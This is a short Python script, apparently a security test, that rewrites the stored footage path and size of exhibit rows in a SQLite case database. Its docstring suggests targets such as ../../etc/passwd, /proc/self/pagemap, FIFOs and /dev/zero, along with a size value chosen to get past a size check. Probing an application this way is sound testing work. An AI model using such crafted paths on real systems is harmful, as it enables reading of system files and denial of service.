"""Attack: point an exhibit's stored footage path somewhere else, with sqlite3.

    python crafted_path.py CASE PATH [SIZE]
PATH is stored as given (e.g. /proc/self/pagemap, ../../etc/passwd, a FIFO, /dev/zero);
SIZE, if given, is stored as the exhibit's size so the size check alone does not stop it.
"""

import sqlite3
import sys

if __name__ == "__main__":
    db = sqlite3.connect(sys.argv[1])
    if len(sys.argv) > 3:
        db.execute("UPDATE exhibit SET path = ?, size = ?", (sys.argv[2], int(sys.argv[3])))
    else:
        db.execute("UPDATE exhibit SET path = ?", (sys.argv[2],))
    db.commit()
    db.close()
